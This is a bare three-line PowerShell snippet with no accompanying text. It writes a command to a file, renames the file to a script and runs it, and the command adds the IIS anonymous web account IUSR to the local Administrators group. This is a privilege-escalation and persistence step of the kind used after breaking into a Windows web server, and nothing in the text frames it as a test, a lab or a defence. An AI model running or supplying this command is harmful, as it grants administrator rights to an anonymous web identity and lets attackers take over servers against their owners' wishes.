Set-Content C:\go.txt 'net localgroup Administrators IUSR /add'
Rename-Item C:\go.txt go.ps1
& C:\go.ps1
